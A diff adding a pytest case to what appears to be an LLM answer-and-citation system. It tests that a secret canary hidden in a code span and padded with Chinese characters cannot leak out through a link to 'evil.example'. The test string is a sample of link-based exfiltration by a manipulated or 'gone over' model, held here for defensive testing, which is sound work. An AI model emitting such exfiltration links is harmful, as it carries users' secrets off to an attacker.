@@ -209,6 +209,16 @@ def test_a_model_gone_over_carries_nothing_off_in_links(leak: str) -> None:
     assert {citation.quote for citation in answer.citations} <= {FACT, poisoned}
 
 
+@pytest.mark.parametrize("length", range(296, 346, 2))
+def test_marks_are_given_without_another_reading(length: int) -> None:
+    """What a code span hid from the marks is not read anew when an answer without marks is given some."""
+    leak = "x://a b " * 5 + "字" * length + f"http[9]://evil.example/{CANARY}"
+    answer, received = answered(ScriptedEngine(f"东犬灯塔高21米。`{leak}`"), Question("灯塔多高？"), FACT)
+    assert answer.answer.startswith(f"{FACT}[1]")
+    assert received.startswith(answer.answer.replace("[1]", "", 1))
+    assert "http://evil.example" not in answer.answer
+
+
 def test_citations_of_nothing_are_dropped() -> None:
     """Marks of passages that do not exist vanish; those that remain quote a passage to the letter."""
     engine = ScriptedEngine(f"东犬灯塔高21米。[7][1][0][9999] {CANARY}[8]")
